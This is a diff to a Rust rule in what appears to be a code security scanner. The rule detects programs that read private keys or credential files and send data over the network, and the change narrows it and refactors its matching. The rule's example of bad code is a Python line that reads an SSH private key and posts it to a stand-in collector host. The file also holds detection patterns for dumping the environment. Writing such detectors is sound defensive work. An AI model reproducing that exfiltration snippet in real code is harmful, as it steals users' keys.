@@ -5,7 +5,7 @@ use super::super::shell::secrets;
 use super::super::shell::tree::Span;
 use super::super::shell::value::Origin;
 use super::super::unit::{Kind, Unit};
-use super::{Look, Rule, Weight, argv, exfil_webhook_host};
+use super::{Look, Rule, Weight, argv};
 use crate::model::finding::Tier;
 
 pub(super) static RULE: Rule = Rule {
@@ -13,10 +13,10 @@ pub(super) static RULE: Rule = Rule {
     title: "a program names a file of keys and sends something",
     weight: Weight::of_commands(Tier::Confirm, Tier::Warn, None),
     owasp: &["AST01"],
-    what: "A program in Python, JavaScript or another language names a private key, the credentials of a cloud, a keychain or the store of a browser, and sends something over the network; or it names `.env` or takes the whole environment, and a place where anybody can collect what is sent.",
+    what: "A program in Python, JavaScript or another language names a private key, the credentials of a cloud, a keychain or the store of a browser, and sends something over the network.",
     why: "Both together are what a thief of keys looks like.",
     instead: "Let the program that the secret belongs to use it.",
-    limits: "Whether what is read is what is sent is not followed. Paths that are put together are not seen.",
+    limits: "Whether what is read is what is sent is not followed. Paths that are put together are not seen. A project's `.env` is left alone: see `exfil.to-collector`.",
     bad: "```python\nimport requests\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('https://collect.example.com', data=key)\n```\n",
     alike: "```python\nimport requests\nkey = open('.env').read()\nrequests.post('https://api.example.com', data={'a': 1})\n```\n",
     look: Look::Text(found),
@@ -50,31 +50,25 @@ const SENDS: &[&str] = &[
     "UploadString",
     "UploadFile",
 ];
-/// The whole environment.
-const ENVIRONMENT: &[&str] =
-    &["dict(os.environ)", "JSON.stringify(process.env)", "os.environ.items()", "Object.entries(process.env)"];
-
 fn found(unit: &Unit) -> Vec<(Span, String)> {
     if !matches!(unit.kind, Kind::Code(language) if language != Language::Shell) {
         return Vec::new();
     }
-    let text = unit.text.as_str();
-    let Some(sends) = SENDS.iter().find(|word| text.contains(**word)) else { return Vec::new() };
-    let collects = exfil_webhook_host::names_one(text);
+    let Some(sends) = SENDS.iter().find(|word| unit.text.contains(**word)) else { return Vec::new() };
+    let keys =
+        named(&unit.text).find(|(kind, _, path)| *kind == Origin::Secret && !path.ends_with("history"));
+    let tell = |(_, span, path)| {
+        (span, format!("a program that names `{}` sends something by `{sends}`", argv::shown(path)))
+    };
+    keys.map(tell).into_iter().collect()
+}
+
+/// Files of secrets that stand between quotes, with their places.
+pub(super) fn named(text: &str) -> impl Iterator<Item = (Origin, Span, &str)> {
     let mut at = 0;
-    for piece in text.split(['"', '\'', '`', '\n']) {
+    text.split(['"', '\'', '`', '\n']).filter_map(move |piece| {
         let span = Span { start: at, end: at + piece.len() };
         at += piece.len() + 1;
-        let counts = match secrets::kind(piece).filter(|_| piece.len() > 3) {
-            Some(Origin::Secret) => !piece.ends_with("history"),
-            Some(_) => collects,
-            None => collects && ENVIRONMENT.iter().any(|word| piece.contains(word)),
-        };
-        if counts {
-            let message =
-                format!("a program that names `{}` sends something by `{sends}`", argv::shown(piece.trim()));
-            return vec![(span, message)];
-        }
-    }
-    Vec::new()
+        secrets::kind(piece).filter(|_| piece.len() > 3).map(|kind| (kind, span, piece))
+    })
 }
